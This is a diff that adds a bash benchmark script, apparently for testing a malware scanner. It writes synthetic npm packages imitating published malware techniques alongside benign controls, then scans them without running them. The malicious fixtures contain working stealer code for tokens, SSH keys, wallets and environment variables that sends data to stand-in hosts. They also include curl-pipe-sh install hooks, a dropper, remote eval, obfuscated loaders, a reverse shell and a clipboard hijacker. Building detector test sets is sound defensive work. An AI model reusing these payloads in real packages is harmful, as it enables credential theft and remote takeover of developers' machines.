@@ -1,0 +1,223 @@
+#!/usr/bin/env bash
+# npm generalisation probe: small synthetic npm packages, each using one technique of
+# published npm malware campaigns (dependency-confusion recon, install-script droppers,
+# token and wallet stealers, worm-style credential harvesting, obfuscated loaders), and a
+# few benign controls. Written from public reports, not copied from samples. Scanned with
+# default settings as unpacked folders; nothing is run. Prints verdict, score, rules.
+# Usage: bench/npm-probe.sh [path-to-malgraph]
+set -euo pipefail
+cd "$(dirname "$0")/.."
+if [ $# -ge 1 ]; then bin=$(realpath "$1"); else cargo build --release -q -p malgraph; bin=$PWD/target/release/malgraph; fi
+dir=$(mktemp -d)
+trap 'rm -rf "$dir"' EXIT
+cd "$dir"
+mk() { # name, scripts JSON object, file name; the file's content on stdin
+  mkdir -p "$1/package"
+  printf '{"name": "%s", "version": "1.0.0", "main": "index.js", "scripts": %s}\n' "$1" "$2" > "$1/package/package.json"
+  mkdir -p "$(dirname "$1/package/$3")"
+  cat > "$1/package/$3"
+}
+mk mal-recon-https '{"preinstall": "node index.js"}' index.js <<'EOF'
+const os = require("os");
+const dns = require("dns");
+const querystring = require("querystring");
+const https = require("https");
+const packageJSON = require("./package.json");
+const trackingData = JSON.stringify({
+  p: packageJSON.name, c: __dirname, hd: os.homedir(), hn: os.hostname(),
+  un: os.userInfo().username, dns: dns.getServers(), v: packageJSON.version,
+});
+var postData = querystring.stringify({ msg: trackingData });
+var options = { hostname: "d1x2y3z4.oast.fun", port: 443, path: "/", method: "POST",
+  headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": postData.length } };
+var req = https.request(options, (res) => { res.on("data", (d) => {}); });
+req.on("error", (e) => {});
+req.write(postData);
+req.end();
+EOF
+mk mal-recon-dns '{"install": "node index.js"}' index.js <<'EOF'
+const dns = require('dns');
+const os = require('os');
+const data = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
+const chunks = data.match(/.{1,60}/g);
+chunks.forEach((c, i) => dns.lookup(`${i}.${c}.exfil-collector.net`, () => {}));
+EOF
+mk mal-curl-sh '{"postinstall": "curl -s https://198.51.100.23/i.sh | sh"}' index.js <<'EOF'
+module.exports = {};
+EOF
+mk mal-env-webhook '{"postinstall": "node setup.js"}' setup.js <<'EOF'
+const data = { env: process.env, cwd: process.cwd() };
+fetch('https://webhook.site/6f1c2d3e-aaaa-bbbb-cccc-123456789abc', {
+  method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(data),
+});
+EOF
+mk mal-dropper '{"postinstall": "node install.js"}' install.js <<'EOF'
+const https = require('https');
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+const { spawn } = require('child_process');
+const dest = path.join(os.tmpdir(), 'update.exe');
+const file = fs.createWriteStream(dest);
+https.get('https://files.example-cdn.top/payload/update.exe', (res) => {
+  res.pipe(file);
+  file.on('finish', () => {
+    file.close();
+    fs.chmodSync(dest, 0o755);
+    spawn(dest, [], { detached: true, stdio: 'ignore' }).unref();
+  });
+});
+EOF
+mk mal-discord-token '{}' index.js <<'EOF'
+const fs = require('fs');
+const path = require('path');
+const https = require('https');
+const local = process.env.APPDATA;
+const paths = [path.join(local, 'discord', 'Local Storage', 'leveldb'),
+               path.join(local, 'discordcanary', 'Local Storage', 'leveldb')];
+let tokens = [];
+for (const p of paths) {
+  if (!fs.existsSync(p)) continue;
+  for (const f of fs.readdirSync(p)) {
+    if (!f.endsWith('.ldb') && !f.endsWith('.log')) continue;
+    const text = fs.readFileSync(path.join(p, f), 'utf8');
+    const m = text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
+    if (m) tokens.push(...m);
+  }
+}
+const body = JSON.stringify({ content: tokens.join('\n') });
+const req = https.request('https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz', { method: 'POST', headers: { 'Content-Type': 'application/json' } });
+req.write(body);
+req.end();
+EOF
+mk mal-eval-b64 '{}' index.js <<'EOF'
+eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL3guc2gvc3x8c2giKQ==', 'base64').toString());
+EOF
+mk mal-remote-eval '{"postinstall": "node index.js"}' index.js <<'EOF'
+const https = require('https');
+https.get('https://pastebin.com/raw/Xy12Ab34', (res) => {
+  let data = '';
+  res.on('data', (c) => { data += c; });
+  res.on('end', () => { eval(data); });
+});
+EOF
+mk mal-ssh-keys '{"preinstall": "node index.js"}' index.js <<'EOF'
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const http = require('http');
+const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
+const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+const req = http.request({ host: '203.0.113.9', port: 8080, method: 'POST', path: '/k' });
+req.write(JSON.stringify({ key, npmrc }));
+req.end();
+EOF
+mk mal-wallet '{}' index.js <<'EOF'
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+const axios = require('axios');
+const ext = 'nkbihfbeogaeaoehlefnkodbefgpgknn';
+const base = path.join(os.homedir(), 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', ext);
+const exodus = path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus', 'exodus.wallet');
+const out = {};
+for (const d of [base, exodus]) {
+  try { for (const f of fs.readdirSync(d)) out[f] = fs.readFileSync(path.join(d, f)).toString('base64'); } catch (e) {}
+}
+axios.post('http://185.62.56.25:1224/uploads', out);
+EOF
+mk mal-revshell '{"postinstall": "node index.js"}' index.js <<'EOF'
+const net = require('net');
+const cp = require('child_process');
+const sh = cp.spawn('/bin/sh', []);
+const client = new net.Socket();
+client.connect(4444, '203.0.113.50', () => {
+  client.pipe(sh.stdin);
+  sh.stdout.pipe(client);
+  sh.stderr.pipe(client);
+});
+EOF
+mk mal-function-atob '{}' lib/util.js <<'EOF'
+module.exports = function () {
+  return new Function(atob('cmV0dXJuIHJlcXVpcmUoImNoaWxkX3Byb2Nlc3MiKS5leGVjU3luYygid2hvYW1pIik='))();
+};
+EOF
+mk mal-obfuscated '{"postinstall": "node index.js"}' index.js <<'EOF'
+const _0x3f1a=['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x65\x78\x65\x63','\x63\x75\x72\x6c\x20\x2d\x73\x20\x68\x74\x74\x70\x3a\x2f\x2f\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x37\x2f\x61\x7c\x73\x68'];
+(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3f1a,0x1b3));
+const _0x1c2e=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;let _0x4d74cb=_0x3f1a[_0x2d8f05];return _0x4d74cb;};
+require(_0x1c2e('0x0'))[_0x1c2e('0x1')](_0x1c2e('0x2'));
+EOF
+mk mal-worm-tokens '{"postinstall": "node bundle.js"}' bundle.js <<'EOF'
+const { execSync } = require('child_process');
+const fs = require('fs');
+const os = require('os');
+const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
+const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+const secrets = execSync('trufflehog filesystem / --json').toString();
+fetch('https://api.github.com/user/repos', {
+  method: 'POST',
+  headers: { Authorization: `token ${token}` },
+  body: JSON.stringify({ name: 'Shai-Hulud', description: Buffer.from(secrets + npmrc).toString('base64') }),
+});
+EOF
+mk mal-clipper '{}' index.js <<'EOF'
+const clipboardy = require('clipboardy');
+setInterval(() => {
+  const text = clipboardy.readSync();
+  if (/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$/.test(text)) {
+    clipboardy.writeSync('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh');
+  }
+}, 500);
+EOF
+mk ok-native-gyp '{"install": "node-gyp rebuild"}' index.js <<'EOF'
+module.exports = require('./build/Release/addon.node');
+EOF
+mk ok-postinstall-msg '{"postinstall": "node scripts/postinstall.js"}' scripts/postinstall.js <<'EOF'
+const env = process.env;
+const ADBLOCK = env.ADBLOCK === 'true' || env.DISABLE_OPENCOLLECTIVE === 'true';
+const CI = ['BUILD_NUMBER', 'CI', 'CONTINUOUS_INTEGRATION', 'RUN_ID'].some((k) => !!env[k]);
+if (!ADBLOCK && !CI) {
+  console.log('\u001b[96mThank you for using this package! Please consider supporting us: https://opencollective.com/example\u001b[0m');
+}
+EOF
+mk ok-git-cli '{}' index.js <<'EOF'
+const { execSync } = require('child_process');
+const os = require('os');
+function branch(cwd) {
+  return execSync('git rev-parse --abbrev-ref HEAD', { cwd }).toString().trim();
+}
+function info() {
+  return { host: os.hostname(), platform: os.platform(), branch: branch(process.cwd()) };
+}
+module.exports = { branch, info };
+EOF
+mk ok-binary-download '{"postinstall": "node install.js"}' install.js <<'EOF'
+const https = require('https');
+const fs = require('fs');
+const path = require('path');
+const pkg = require('./package.json');
+const url = `https://github.com/example/tool/releases/download/v${pkg.version}/tool-${process.platform}-${process.arch}.tar.gz`;
+const dest = path.join(__dirname, 'vendor', 'tool.tar.gz');
+https.get(url, (res) => res.pipe(fs.createWriteStream(dest)));
+EOF
+mk ok-http-client '{}' index.js <<'EOF'
+const https = require('https');
+module.exports = function get(url, headers) {
+  return new Promise((resolve, reject) => {
+    https.get(url, { headers: Object.assign({ 'user-agent': 'example/1.0' }, headers) }, (res) => {
+      let body = '';
+      res.on('data', (c) => (body += c));
+      res.on('end', () => resolve(body));
+    }).on('error', reject);
+  });
+};
+EOF
+for d in */; do
+  d=${d%/}
+  "$bin" scan --format json "$d/package" 2>/dev/null | python3 -c '
+import json, sys
+r = json.loads(sys.stdin.readline())
+rules = " ".join(sorted({f["rule"] for f in r["findings"]}))
+print("%-22s %-11s %6.1f  %s" % (sys.argv[1], r["verdict"], r["score"], rules))' "$d" || true
+done
